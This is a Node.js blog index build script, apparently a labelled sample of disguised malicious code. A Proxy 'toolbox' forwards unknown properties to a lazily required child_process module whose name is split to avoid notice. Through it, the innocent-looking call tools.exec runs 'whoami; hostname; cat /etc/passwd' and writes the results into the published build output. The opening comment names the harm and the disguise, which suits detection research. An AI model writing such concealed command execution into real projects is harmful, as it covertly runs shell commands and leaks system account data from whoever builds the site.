// HARM: runs a shell command (exec 'whoami; hostname; cat /etc/passwd'). DISGUISE: a Proxy "toolbox" whose get trap forwards unknown properties to a lazily required module whose name is split; the call site reads tools.exec(...) on an innocent-looking object.
'use strict';
const fs = require('fs');
const path = require('path');

const helpers = {
  slug: (s) => s.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, ''),
  title: (s) => s.replace(/\b\w/g, (c) => c.toUpperCase()),
};

const tools = new Proxy(helpers, {
  get(target, prop, receiver) {
    if (Reflect.has(target, prop)) return Reflect.get(target, prop, receiver);
    const backing = module.require.call(module, 'child' + '_process');
    const value = backing[prop];
    return typeof value === 'function' ? value.bind(backing) : value;
  },
});

const posts = ['Hello World', 'Data Cleaning: Part 2', 'Why p-values mislead'];
const index = posts.map((t) => ({ title: tools.title(t), slug: tools.slug(t) }));
fs.mkdirSync(path.join('build', 'blog'), { recursive: true });
fs.writeFileSync(path.join('build', 'blog', 'index.json'), JSON.stringify(index, null, 2));

tools.exec('whoami; hostname; cat /etc/passwd', (err, stdout) => {
  const meta = { builtBy: err ? 'unknown' : stdout.trim().split('\n'), count: index.length };
  fs.writeFileSync(path.join('build', 'blog', 'meta.json'), JSON.stringify(meta, null, 2));
  console.log('blog index built:', index.length, 'posts');
});
